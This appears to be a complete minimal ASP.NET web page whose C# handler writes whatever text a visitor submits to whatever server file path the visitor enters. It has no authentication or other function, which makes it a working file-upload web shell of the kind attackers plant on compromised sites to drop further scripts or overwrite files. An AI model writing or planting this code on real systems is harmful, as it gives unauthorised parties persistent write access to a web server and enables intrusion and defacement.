<%@ Page Language="C#" %>
<script runat="server">
void Save_Click(object sender, EventArgs e)
{
    System.IO.StreamWriter sw = new System.IO.StreamWriter(this.txtPath.Text, false);
    sw.Write(this.txtBody.Text);
    sw.Close();
    lblDone.Text = "saved";
}
</script>
<html><body>
<form runat="server">
Path: <asp:TextBox runat="server" ID="txtPath" />
Content: <asp:TextBox runat="server" ID="txtBody" TextMode="MultiLine" />
<asp:Button runat="server" Text="Save" OnClick="Save_Click" />
<asp:Label runat="server" ID="lblDone" />
</form>
</body></html>
